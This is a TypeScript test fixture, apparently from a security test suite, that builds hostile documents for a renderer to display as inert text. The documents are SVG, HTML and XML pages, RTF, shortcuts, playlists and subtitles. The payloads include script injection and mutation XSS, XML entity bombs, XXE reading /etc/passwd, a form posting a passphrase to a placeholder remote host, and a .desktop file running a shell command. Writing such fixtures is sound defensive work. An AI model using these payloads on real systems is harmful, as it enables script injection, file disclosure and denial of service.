/** Pages, drawings and XML that would run, load or grow where somebody renders them; here they are text. */
import { joined, le16 } from './bytes.ts';
import { type HostileInput, hostile, REMOTE, SCRIPT } from './input.ts';

const asText = (name: string, attacks: string, make: () => Uint8Array | string) =>
  hostile(name, attacks, 'text', 'shown', make);
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const html = (inside: string) => `<!doctype html><html><head><title>x</title></head><body>${inside}</body></html>`;
const laughs = (levels: number) =>
  Array.from({ length: levels }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

export const MARKUP: readonly HostileInput[] = [
  asText('svg-script.svg', 'script in a drawing', () => svg(`<script>${SCRIPT}</script>`)),
  asText('svg-onload.svg', 'script on loading', () => svg('', `onload="${SCRIPT}"`)),
  asText('svg-page-inside.svg', 'a page inside a drawing', () =>
    svg(
      `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${SCRIPT}"/><iframe src="${REMOTE}/ran"/></body></foreignObject>`,
    ),
  ),
  asText('svg-use.svg', 'loading by use', () =>
    svg(`<use xlink:href="${REMOTE}/ran.svg#a"/><image href="${REMOTE}/ran.png"/>`),
  ),
  asText('svg-script-link.svg', 'script as an address', () =>
    svg(`<a xlink:href="javascript:${SCRIPT}"><rect width="9999" height="9999"/></a>`),
  ),
  asText('svg-animate.svg', 'script set by an animation', () =>
    svg(
      `<a id="a"><animate attributeName="href" values="javascript:${SCRIPT}" begin="0s"/></a><set attributeName="onmouseover" to="${SCRIPT}"/>`,
    ),
  ),
  asText('svg-style.svg', 'loading by style', () =>
    svg(
      `<style>@import "${REMOTE}/ran.css";@font-face{font-family:x;src:url(${REMOTE}/ran.woff)}*{fill:url(${REMOTE}/ran.svg#x)}</style>`,
    ),
  ),
  asText('svg-filter.svg', 'time: a filter over 10^9 pixels', () =>
    svg(
      '<filter id="f"><feTurbulence baseFrequency="9" numOctaves="999999"/><feGaussianBlur stdDeviation="99999"/></filter><rect width="1e9" height="1e9" filter="url(#f)"/>',
    ),
  ),
  asText('svg-use-bomb.svg', 'time: uses of uses', () =>
    svg(Array.from({ length: 20 }, (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`).join('')),
  ),
  asText(
    'svg-declaration.svg',
    'a drawing behind a declaration and a comment',
    () => `<?xml version="1.0"?><!-- ${'x'.repeat(2000)} -->${svg(`<script>${SCRIPT}</script>`)}`,
  ),
  asText('html-script.html', 'script in a page', () => html(`<script>${SCRIPT}</script>`)),
  asText('html-handlers.html', 'script in handlers', () =>
    html(
      `<img src=x onerror="${SCRIPT}"><body onload="${SCRIPT}"><details open ontoggle="${SCRIPT}"><input autofocus onfocus="${SCRIPT}"><video><source onerror="${SCRIPT}"></video>`,
    ),
  ),
  asText(
    'html-refresh.html',
    'going elsewhere',
    () =>
      `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${REMOTE}/ran"><base href="${REMOTE}/"></head></html>`,
  ),
  asText('html-frames.html', 'frames, objects and embeds', () =>
    html(
      `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe><iframe src="data:text/html,<script>${SCRIPT}</script>"></iframe><object data="${REMOTE}/ran"></object><embed src="${REMOTE}/ran"><portal src="${REMOTE}/ran">`,
    ),
  ),
  asText('html-style.html', 'loading by style', () =>
    html(
      `<style>@import url(${REMOTE}/ran.css);body{background:url(${REMOTE}/ran.png)}</style><link rel=stylesheet href="${REMOTE}/ran.css"><link rel=preload href="${REMOTE}/ran" as=script><link rel=dns-prefetch href="//ran.invalid">`,
    ),
  ),
  asText('html-form.html', 'a form that sends itself', () =>
    html(`<form id=f action="${REMOTE}/ran" method=post><input name=passphrase></form><script>f.submit()</script>`),
  ),
  asText('html-module.html', 'modules, workers, wasm', () =>
    html(
      `<script type=module>import '${REMOTE}/ran.js'</script><script type=importmap>{"imports":{"a":"${REMOTE}/a.js"}}</script><script>new Worker('data:,postMessage(1)');WebAssembly.compile(new Uint8Array(8))</script>`,
    ),
  ),
  asText('html-ends-tags.html', 'leaving the place where text is shown', () =>
    html(`</pre></main></body></html><script>${SCRIPT}</script><pre><textarea></textarea></title></style></noscript>`),
  ),
  asText('html-mutation.html', 'a page that becomes another when parsed twice', () =>
    html(
      `<svg><style><img src="</style><img src=x onerror='${SCRIPT}'>"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
    ),
  ),
  asText('html-template.html', 'a declared shadow tree', () =>
    html(`<div><template shadowrootmode=open><script>${SCRIPT}</script><slot></slot></template></div>`),
  ),
  asText(
    'html-comment.html',
    'a page that begins as a comment',
    () => `<!-- a note -->\n${html(`<script>${SCRIPT}</script>`)}`,
  ),
  asText('html-deep.html', 'stack: 300 000 elements inside each other', () => html('<div>'.repeat(300_000))),
  asText('html-attributes.html', 'time: an element with 100 000 attributes', () =>
    html(`<div ${Array.from({ length: 100_000 }, (_, at) => `a${at}=1`).join(' ')}>`),
  ),
  asText(
    'xhtml-script.xhtml',
    'script in a page of XML',
    () => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT}</script></html>`,
  ),
  asText(
    'xml-laughs.xml',
    'XML bomb: 10^12 laughs',
    () => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">${laughs(12)}]><x>&l12;</x>`,
  ),
  asText(
    'xml-quadratic.xml',
    'XML bomb: one long entity, many times',
    () => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><x>${'&a;'.repeat(50_000)}</x>`,
  ),
  asText(
    'xml-outside.xml',
    'XML that reads files and addresses',
    () =>
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "${REMOTE}/ran.dtd">%p;]><x>&e;</x>`,
  ),
  asText(
    'xml-stylesheet.xml',
    'a style sheet that is a program',
    () =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${REMOTE}/ran.xsl"?><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>`,
  ),
  asText(
    'xml-deep.xml',
    'stack: 200 000 elements inside each other',
    () => `<?xml version="1.0"?>${'<a>'.repeat(200_000)}`,
  ),
  asText(
    'rss-link.xml',
    'a feed with a script as link',
    () => `<?xml version="1.0"?><rss><channel><link>javascript:${SCRIPT}</link></channel></rss>`,
  ),
  asText(
    'rtf-object.rtf',
    'a document that updates an embedded object',
    () =>
      `{\\rtf1{\\object\\objupdate\\objautlink{\\*\\objdata 0105000002000000}}{\\field{\\*\\fldinst INCLUDEPICTURE "${REMOTE}/ran.png"}}}`,
  ),
  asText(
    'shortcut.url',
    'a shortcut to an address',
    () => `[InternetShortcut]\r\nURL=file://192.0.2.1/share/ran.exe\r\nIconFile=\\\\192.0.2.1\\share\\ran.ico\r\n`,
  ),
  asText(
    'starter.desktop',
    'a starter of a program',
    () => '[Desktop Entry]\nType=Application\nExec=sh -c "touch /tmp/ran"\nName=Photo\n',
  ),
  asText(
    'playlist.m3u8',
    'a list of parts at an address',
    () => `#EXTM3U\n#EXTINF:9,\n${REMOTE}/ran.ts\n#EXT-X-KEY:METHOD=AES-128,URI="${REMOTE}/ran.key"\n`,
  ),
  asText(
    'subtitles.vtt',
    'subtitles with markup and style',
    () =>
      `WEBVTT\n\nSTYLE\n::cue{background:url(${REMOTE}/ran.png)}\n\n00:00.000 --> 99:00.000\n<script>${SCRIPT}</script><c.x>{\\an8}\n`,
  ),
  hostile('help.chm', 'a compiled page', 'bytes', 'shown', () =>
    joined('ITSF', le16(3), `<script>${SCRIPT}</script>\0`),
  ),
];
